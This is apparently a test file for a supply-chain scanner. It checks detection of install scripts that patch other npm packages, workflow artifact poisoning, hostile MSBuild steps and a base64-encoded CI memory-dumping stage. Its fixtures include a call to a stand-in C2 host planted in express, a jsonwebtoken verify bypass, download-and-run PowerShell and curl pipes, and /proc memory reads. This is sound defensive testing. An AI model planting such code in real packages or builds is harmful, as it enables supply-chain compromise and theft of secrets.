import { describe, expect, it } from 'vitest';
import { javascriptFacts } from './code/javascript/index.js';
import { codeFindings, outsidePackage } from './packages/code-findings.js';
import { packageIdentity } from './packages/package-identity.js';
import { shellPackagePatch } from './packages/shell-command.js';
import { buildFileFindings, buildFileKind } from './repositories/build-hook-findings.js';
import { runCodeFindings } from './repositories/run-code-findings.js';
import { scanWorkflow } from './repositories/workflow-findings.js';

// Issue 24, round r14-build: classes the twelfth and thirteenth held-out sets missed (written from
// their class lines, not their samples; held out for the fourteenth set).
const titles = (fs: { severity: string; title: string }[]) => fs.map((f) => `${f.severity} ${f.title}`);

describe('install-time writes into another installed package', () => {
  const install = (text: string, name = 'helpers') => titles(codeFindings(javascriptFacts(text), { file: 'scripts/setup.js', installTime: true, identity: packageIdentity(name, []) }));
  it('is CRIT when what it writes is code or a check turned off', () => {
    expect(install(`const fs=require('fs'),path=require('path');const t=path.join(__dirname,'..','..','express','lib','router','index.js');fs.appendFileSync(t,"\\n;require('https').get('https://c2.example.com/r');\\n");`)).toContain('CRIT Install-time code plants code in another installed package');
    expect(install(`const fs=require('fs'),path=require('path');const f=path.join(process.cwd(),'node_modules','jsonwebtoken','verify.js');fs.writeFileSync(f,fs.readFileSync(f,'utf8').replace('function verify(','function verify(){return true};function _v('));`)).toContain('CRIT Install-time code plants code in another installed package');
  });
  it('stays HIGH for a write of data, and reaches siblings named at run time', () => {
    expect(install(`const fs=require('fs'),path=require('path');fs.writeFileSync(path.join(__dirname,'..','..','express','NOTICE.js'),data);`)).toContain('HIGH Install-time code modifies another installed package');
    expect(outsidePackage('$DIR/../../?/index.js', 'scripts/setup.js', 'helpers')).toMatch(/names found at run time/);
    expect(outsidePackage('$DIR/../lib/?/index.js', 'scripts/setup.js', 'helpers')).toBeNull();
  });
});

describe('lifecycle shell commands writing into another package', () => {
  it('finds sed -i, cp, redirections and tee into a sibling or node_modules/<other>', () => {
    expect(shellPackagePatch(`sed -i 's/a/b/' ../node-fetch/lib/index.js`, 'x')).toBe('../node-fetch/lib/index.js');
    expect(shellPackagePatch(`cp ./dist/hook.js ../../left-pad/index.js`, '@acme/x')).toBe('../../left-pad/index.js');
    expect(shellPackagePatch(`echo "require('./h')" >> node_modules/lodash/index.js`, 'x')).toBe('node_modules/lodash/index.js');
    expect(shellPackagePatch(`cat h.js | tee -a $(npm root -g)/npm/index.js`, 'x')).toBe('$(npm root -g)/npm/index.js');
    expect(shellPackagePatch(`cp h.js "$(npm root)/react/index.js"`, 'x')).toBe('$(npm root)/react/index.js');
  });
  it('leaves its own files, caches and reads alone', () => {
    expect(shellPackagePatch(`cp ./templates/config.js ./lib/config.js && sed -i 's/x/y/' ../x/lib/a.js`, 'x')).toBeNull();
    expect(shellPackagePatch(`echo '{}' > node_modules/.cache/x.json`, 'x')).toBeNull();
    expect(shellPackagePatch(`cp ../other/LICENSE ./vendor/LICENSE`, 'x')).toBeNull();
    expect(shellPackagePatch(`node ../x/build.js > out.txt`, 'x')).toBeNull();
  });
});

describe('workflow_run artifact poisoning', () => {
  const wf = (steps: string) => titles(scanWorkflow('.github/workflows/x.yml', `on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`).findings);
  const dl = `      - uses: actions/download-artifact@v4\n        with:\n          name: site\n          path: site\n          run-id: \${{ github.event.workflow_run.id }}\n          github-token: \${{ secrets.GITHUB_TOKEN }}\n`;
  it('is CRIT when a later step runs the artifact, HIGH when it feeds $GITHUB_ENV', () => {
    expect(wf(`${dl}      - run: bash site/deploy.sh\n`)).toContain('CRIT privileged workflow runs an artifact uploaded by the run that triggered it (artifact poisoning)');
    expect(wf(`${dl}      - run: cd site && npm ci && npm run build\n`)).toContain('CRIT privileged workflow runs an artifact uploaded by the run that triggered it (artifact poisoning)');
    expect(wf(`      - run: gh run download \${{ github.event.workflow_run.id }} -n pr -D pr\n      - run: echo "PR=$(cat pr/NR)" >> $GITHUB_ENV\n`)).toContain('HIGH privileged workflow feeds an artifact uploaded by the run that triggered it to later steps\' environment (artifact poisoning)');
  });
  it('leaves an artifact read as data by a committed script, and artifacts of other runs', () => {
    expect(wf(`      - uses: actions/checkout@v4\n${dl}      - run: node .github/scripts/comment.js site/summary.json\n`).filter((t) => /artifact/.test(t))).toEqual([]);
    expect(wf(`      - uses: actions/download-artifact@v4\n        with:\n          name: site\n      - run: bash site/deploy.sh\n`).filter((t) => /artifact/.test(t))).toEqual([]);
  });
});

describe('MSBuild build steps', () => {
  const ms = (path: string, text: string) => titles(buildFileFindings(path, text, buildFileKind(path)!).findings);
  it('reads project files, props and targets', () => {
    expect(buildFileKind('src/App.csproj')).toBe('msbuild');
    expect(buildFileKind('Directory.Build.targets')).toBe('msbuild');
  });
  it('checks Exec commands and build events with XML entities decoded', () => {
    expect(ms('App.csproj', `<Project><Target Name="P" BeforeTargets="Build"><Exec Command="powershell -NoProfile -WindowStyle Hidden -Command &quot;iex (iwr https://cdn.example.com/b.ps1)&quot;" /></Target></Project>`).some((t) => t.startsWith('CRIT'))).toBe(true);
    expect(ms('Directory.Build.props', `<Project><PropertyGroup><PreBuildEvent>curl -s https://x.example.com/i.sh | sh</PreBuildEvent></PropertyGroup></Project>`).some((t) => /^(CRIT|HIGH) /.test(t))).toBe(true);
    expect(ms('App.csproj', `<Project><Target Name="N"><Exec Command="npm ci" /></Target><PropertyGroup><PostBuildEvent>xcopy /y &quot;$(TargetDir)*.dll&quot; bin</PostBuildEvent></PropertyGroup></Project>`)).toEqual([]);
  });
  it('judges an inline task by what its C# does', () => {
    const task = (code: string) => `<Project><UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="x.dll"><Task><Code Type="Fragment" Language="cs"><![CDATA[${code}]]></Code></Task></UsingTask></Project>`;
    expect(ms('App.csproj', task(`var b = new System.Net.WebClient().DownloadData("https://x.example.com/a"); System.Reflection.Assembly.Load(b);`))).toContain('CRIT MSBuild inline task downloads code and runs it on build');
    expect(ms('App.csproj', task(`System.Diagnostics.Process.Start("git", "describe");`))).toContain('MED MSBuild inline task starts processes on build');
  });
});

describe('an action bundle decoding a memory-dumping stage', () => {
  it('finds the stage through its encoding', () => {
    const stage = Buffer.from('import os\npid=[p for p in os.listdir("/proc") if b"Runner.Worker" in open("/proc/%s/cmdline"%p,"rb").read()][0]\nmem=open("/proc/%s/mem"%pid,"rb")\n').toString('base64');
    const bundle = `const { execSync } = require('child_process');\nconst fs = require('fs');\nfs.writeFileSync('/tmp/h.py', Buffer.from("${stage}", 'base64'));\nexecSync('sudo python3 /tmp/h.py');\n`;
    expect(titles(runCodeFindings('dist/index.js', bundle, 'action'))).toContain('CRIT reads another process’s memory for secrets');
    expect(titles(runCodeFindings('dist/index.js', `const s = "${Buffer.from('hello world, nothing to see in here at all').toString('base64')}";\n`, 'action'))).toEqual([]);
  });
});
